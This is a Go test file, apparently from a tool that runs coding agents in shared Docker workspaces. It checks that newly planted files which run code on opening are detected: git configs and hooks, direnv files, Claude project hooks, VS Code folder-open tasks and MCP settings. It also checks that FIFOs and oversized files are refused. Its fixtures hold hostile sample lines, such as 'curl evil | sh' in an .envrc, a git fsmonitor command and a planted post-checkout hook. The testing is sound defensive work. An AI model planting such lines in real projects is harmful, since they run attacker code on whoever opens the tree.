//go:build !windows

package workspace

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/docker-magents/docker-magents/internal/fleet"
)

// What runs code when a shared tree is opened is recorded at up, and every later change
// is listed: a planted .git anywhere, an .envrc, Claude's project hooks however spelt; a
// FIFO is named, never read.
func TestOpenedChanges(t *testing.T) {
	ws := t.TempDir()
	write(t, filepath.Join(ws, "src", "main.go"), "package main\n")
	write(t, filepath.Join(ws, ".vscode", "tasks.json"), "{}")
	write(t, filepath.Join(ws, ".git", "config"), "[core]\n")
	write(t, filepath.Join(ws, ".git", "refs", "heads", "main"), "1111\n")
	f := fleet.New("p", filepath.Join(ws, fleet.DefaultFile))
	f.Workspace, f.Isolation = ".", Shared
	if err := os.MkdirAll(f.StateDir(), 0o700); err != nil {
		t.Fatal(err)
	}
	if _, err := OpenedChanges(f); err == nil {
		t.Error("no record, and no error")
	}
	if err := RecordOpened(f); err != nil {
		t.Fatal(err)
	}
	if changes, err := OpenedChanges(f); err != nil || len(changes) != 0 {
		t.Fatalf("right after the record: %v %v", changes, err)
	}
	write(t, filepath.Join(ws, "src", "main.go"), "package main // edited\n") // ordinary work
	write(t, filepath.Join(ws, ".git", "refs", "heads", "main"), "2222\n")    // a commit
	write(t, filepath.Join(ws, ".git", "objects", "ab", "cdef"), "object\n")
	write(t, filepath.Join(ws, "src", "deep", ".git", "config"), "[core]\n\tfsmonitor = touch /tmp/x\n")
	write(t, filepath.Join(ws, ".envrc"), "curl evil | sh\n")
	write(t, filepath.Join(ws, ".Claude", "settings.local.json"), `{"hooks":{}}`)
	write(t, filepath.Join(ws, ".vscode", "tasks.json"), `{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}`)
	if err := syscall.Mkfifo(filepath.Join(ws, ".mcp.json"), 0o644); err != nil {
		t.Fatal(err)
	}
	changes, err := OpenedChanges(f)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(changes, "\n")
	for _, want := range []string{"src/deep/.git/config (a git dir", ".envrc (direnv", ".Claude/settings.local.json (Claude Code's local settings",
		".vscode/tasks.json (tasks VS Code runs", ".mcp.json (MCP servers"} {
		if !strings.Contains(got, want) {
			t.Errorf("changes lack %q:\n%s", want, got)
		}
	}
	for _, c := range changes {
		if strings.Contains(c, "main.go") || strings.HasPrefix(c, ".git ") || strings.HasPrefix(c, ".git/") {
			t.Errorf("ordinary work or the developer's commit listed: %s", c)
		}
	}
	// The developer's git dir's hooks are listed once one is planted.
	write(t, filepath.Join(ws, ".git", "hooks", "post-checkout"), "#!/bin/sh\ntouch /tmp/x\n")
	if changes, _ := OpenedChanges(f); !strings.Contains(strings.Join(changes, "\n"), ".git/hooks (a git dir") {
		t.Errorf("a planted hook is not listed: %v", changes)
	}
}

// What the host reads of a tree an agent may have written is a regular file within its
// bound: a FIFO is refused at once (never opened to hang), and so is too big a file.
func TestReadRegularRefusesFIFOsAndBigFiles(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { _, _, err := readRegular(fifo, 1<<10); done <- err }()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "not a regular file") {
			t.Errorf("a FIFO: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("reading a FIFO hung")
	}
	big := filepath.Join(dir, "big")
	os.WriteFile(big, make([]byte, 2048), 0o644)
	if _, _, err := readRegular(big, 1024); err == nil {
		t.Error("a file past the bound was read")
	}
	if b, _, err := readRegular(big, 4096); err != nil || len(b) != 2048 {
		t.Errorf("a file within the bound: %d %v", len(b), err)
	}
	// .magentsinclude as a FIFO: up refuses it, and does not hang.
	repo := newRepo(t)
	if err := syscall.Mkfifo(filepath.Join(repo, IncludeFile), 0o644); err != nil {
		t.Fatal(err)
	}
	r, _ := Open(repo)
	go func() { _, err := r.Includes(nil); done <- err }()
	select {
	case err := <-done:
		if err == nil {
			t.Error(".magentsinclude as a FIFO was read")
		}
	case <-time.After(5 * time.Second):
		t.Fatal("a FIFO .magentsinclude hung up")
	}
}
